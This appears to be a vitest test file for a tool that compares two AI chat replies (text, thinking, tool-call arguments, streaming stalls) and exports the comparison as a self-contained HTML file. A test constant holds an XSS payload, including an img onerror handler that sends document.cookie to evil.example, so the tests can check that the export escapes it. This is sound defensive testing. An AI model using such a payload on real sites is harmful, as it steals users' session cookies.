import { describe, expect, it } from 'vitest';
import type { DiffSide } from '@/lib/api/diff';
import { exportHtml } from './export-html';
import { compareReplies } from './reply-comparison';

const HOSTILE =
  '<script>alert(1)</script><img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> & <a href="https://evil.example">x</a>';

function side(id: string, more: Partial<DiffSide['reply']>, at: number[], title = 'A chat'): DiffSide {
  return {
    id,
    kind: 'reply',
    conversationId: `c-${id}`,
    title,
    events: { items: at.map((t) => ({ at: t, raw: `data: ${t}` })), truncated: false },
    reply: {
      id,
      role: 'assistant',
      createdAt: '2026-11-26T04:00:00.000Z',
      provider: 'sim',
      model: 'sim-markdown',
      protocol: 'openai-chat',
      status: 'complete',
      text: '',
      thinking: '',
      parts: [],
      toolCalls: [],
      warnings: [],
      finishReason: 'stop',
      usage: { inputTokens: 10, outputTokens: 20 },
      timings: { requestStart: 0, firstToken: at[0], firstAnswer: at[0], lastToken: at.at(-1), end: at.at(-1) },
      ...more,
    } as DiffSide['reply'],
  };
}

describe('compareReplies', () => {
  const a = side('a', { text: 'The sky is blue today.', thinking: 'Look up.' }, [100, 200, 300]);
  const b = side(
    'b',
    {
      model: 'sim-fault-stall',
      text: 'The sky is grey today.',
      toolCalls: [{ id: 't', name: 'get_weather', argsText: '{"city":"Oslo"}', args: { city: 'Oslo' } }],
      finishReason: 'tool-calls',
      timings: { requestStart: 0, firstToken: 100, firstAnswer: 100, lastToken: 2300, end: 2400 },
    },
    [100, 200, 2200, 2300],
  );
  const c = compareReplies(a, b);

  it('diffs the answer, the thinking where either thought, and each tool call’s arguments', () => {
    expect(c.sections.map((s) => s.title)).toEqual(['Answer', 'Thinking', 'Tool call 1: get_weather (arguments)']);
    expect(c.sections[0]!.diff.segments.filter((s) => s.kind !== 'same').map((s) => s.text)).toEqual(['blue', 'grey']);
    expect(c.sections[2]!.diff.segments).toEqual([{ kind: 'added', text: '{\n  "city": "Oslo"\n}' }]);
  });

  it('puts both streams on one axis and finds B’s stall', () => {
    expect(c.span).toBe(2400);
    expect(c.timelines[0]!.stalls).toEqual([]);
    expect(c.timelines[1]!.stalls).toEqual([{ from: 200, to: 2200, phase: 'during its answer' }]);
    expect(c.names).toEqual(['sim · sim-markdown', 'sim · sim-fault-stall']);
    expect(c.figures.find((r) => r.label === 'Finish reason')).toMatchObject({ a: 'stop', b: 'tool-calls', delta: 'differs' });
  });
});

describe('exportHtml', () => {
  const a = side('a', { text: `Hello ${HOSTILE}` }, [100, 900], `Title ${HOSTILE}`);
  const b = side('b', { text: 'Hello there', model: `m${HOSTILE}` }, [100, 200]);
  const html = exportHtml(compareReplies(a, b), new Date('2026-11-26T05:00:00Z'));

  it('is one file: no script, nothing loaded from elsewhere, its own policy forbidding both', () => {
    // Escaped text has no "<": every one is a tag of the file's own.
    const tags = html.match(/<[^>]*>/g)!;
    const names = new Set(tags.map((t) => /^<\/?([a-z0-9!]+)/i.exec(t)![1]!.toLowerCase()));
    const allowed = ['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'h1', 'h2', 'h3', 'p', 'br', 'table'];
    allowed.push(
      'thead',
      'tbody',
      'tr',
      'th',
      'td',
      'caption',
      'svg',
      'text',
      'rect',
      'line',
      'ul',
      'li',
      'div',
      'section',
      'pre',
      'del',
      'ins',
    );
    expect([...names].filter((n) => !allowed.includes(n))).toEqual([]);
    expect(tags.filter((t) => /\s(src|href|on\w+|xlink:href)=/i.test(t))).toEqual([]);
    expect(html).not.toMatch(/@import|url\(/i);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'`);
  });

  it('shows the model’s text escaped, word changes marked', () => {
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('<ins>there</ins>');
    expect(html).toMatch(/<del>[^<]*&lt;script&gt;/);
    expect(html).toContain('A stalled 800 ms during its answer, at 100 ms.');
  });
});
